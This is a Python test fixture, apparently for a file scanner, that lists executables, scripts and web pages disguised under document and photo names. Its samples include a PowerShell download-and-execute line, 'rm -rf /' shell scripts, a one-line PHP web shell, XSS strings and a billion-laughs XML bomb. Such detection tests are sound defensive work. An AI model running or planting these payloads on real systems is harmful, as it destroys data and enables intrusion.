"""Programs, scripts, links and web pages, mostly under the names of papers."""

import gzip
import struct

from tests.documents import samples
from tests.documents.hostile.case import Hostile
from tests.documents.hostile.polyglots import PE

POWERSHELL = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a')\r\n"
FAT_MAC = b"\xca\xfe\xba\xbe\0\0\0\x02" + struct.pack("!IIIII", 7, 3, 4096, 99, 12)
CABINET = b"MSCF\0\0\0\0" + struct.pack("<IIIBBHHHHH", 500, 0, 44, 0, 3, 1, 1, 1, 0, 0)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F\x9b\0\x08\0 \0\0\0" + bytes(60)
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n'
XHTML = XML + b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'
LAUGHS = (
    XML
    + b"<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '&a%d;&a%d;'>" % (n, n - 1, n - 1) for n in range(1, 60))
    + b"]><x>&a59;</x>"
)
EML = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nDate: Mon, 2 Nov 2026 10:00:00 +0300\r\n\r\nHello\r\n"
ISO = bytes(32768) + b"\x01CD001\x01\0" + bytes(4096)


def program(content: bytes, code: str = "program", mailed: str = "") -> Hostile:
    return Hostile(lambda: content, code, "Выписка.pdf", mailed)


def page(content: bytes, name: str = "Выписка.pdf") -> Hostile:
    return Hostile(lambda: content, "web_page", name)


FILES = {
    "a Windows program": program(PE),
    "a Windows program under a slice's name": Hostile(lambda: PE, "program", "IM0001.dcm"),
    "a Windows program under a photograph's name": Hostile(lambda: PE, "program", "IMG.jpg"),
    "only a Windows program's first letters": program(b"MZ" + bytes(2000)),
    "a Linux program": program(samples.ELF),
    "a Mac program": program(b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(500)),
    "an old Mac program": program(b"\xfe\xed\xfa\xce\0\0\0\x12\0\0\0\0\0\0\0\x02" + bytes(500)),
    "a Mac program of two kinds": program(FAT_MAC + bytes(500)),
    "a Java class": program(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d" + bytes(500)),
    "an Android program's code": program(b"dex\n035\0" + bytes(500)),
    "a browser's program": program(b"\0asm\x01\0\0\0" + bytes(500)),
    "a Flash film": program(b"FWS\x09" + struct.pack("<I", 500) + bytes(500)),
    "a Java archive": program(
        samples.archive(
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe\xba\xbe" + bytes(99))
        ),
        "zip_no_images",
    ),
    "a Windows installer": program(samples.DOC, "office"),
    "a Windows help": program(b"ITSF\x03\0\0\0`\0\0\0" + bytes(500)),
    "a Windows link": program(LNK),
    "a Windows link to a site": program(b"[InternetShortcut]\r\nURL=http://example.org/a.exe\r\n"),
    "a Linux link": program(b"[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
    "a Windows folder's command": program(b"[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\a.ico\r\n"),
    "a Windows registry's file": program(
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n"
    ),
    "an autorun": program(b"[autorun]\r\nopen=setup.exe\r\n"),
    "a shell script": program(b"#!/bin/sh\nrm -rf /\n" * 9),
    "a shell script behind a byte order mark": program(b"\xef\xbb\xbf#!/bin/sh\nrm -rf /\n" * 9),
    "a Python script": program(b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
    "a PHP script": program(b"<?php system($_GET['c']); ?>\n" * 9),
    "a batch file": program(b"@echo off\r\nstart calc.exe\r\n"),
    "a script for Windows": program(b'CreateObject("WScript.Shell").Run "calc.exe"\r\n', "text"),
    "a script for PowerShell": program(POWERSHELL, "text"),
    "a disc's image": program(ISO, "other_archive"),
    "a cabinet": program(CABINET + bytes(500), "unknown"),
    "a drawing": page(samples.SVG),
    "a drawing under a picture's name": page(samples.SVG, "схема.png"),
    "a drawing behind a byte order mark": page(b"\xef\xbb\xbf" + XML + samples.SVG),
    "a drawing without a script": page(
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>'
    ),
    "a drawing in two-byte letters": page((XML + samples.SVG).decode().encode("utf-16"), "схема.png"),
    "a packed drawing": Hostile(lambda: gzip.compress(samples.SVG), "other_archive"),
    "a web page": page(samples.HTML),
    "a web page under a photograph's name": page(samples.HTML, "IMG.jpg"),
    "a web page behind spaces": page(b"\r\n   " * 99 + samples.HTML),
    "a web page behind a byte order mark": page(b"\xef\xbb\xbf" + samples.HTML),
    "a web page behind a comment": page(b"<!-- " + b"x" * 2000 + b" -->" + samples.HTML),
    "a web page without its head": program(b"<img src=x onerror=alert(1)>" * 20, "text"),
    "an XHTML page": page(XHTML),
    "a billion laughs": page(LAUGHS),
    "a saved page": page(samples.MHTML, "IMG.jpg"),
    "a letter": page(EML),
    "a program for Windows' pages": Hostile(lambda: samples.HTML, "program_name", "Выписка.hta"),
}
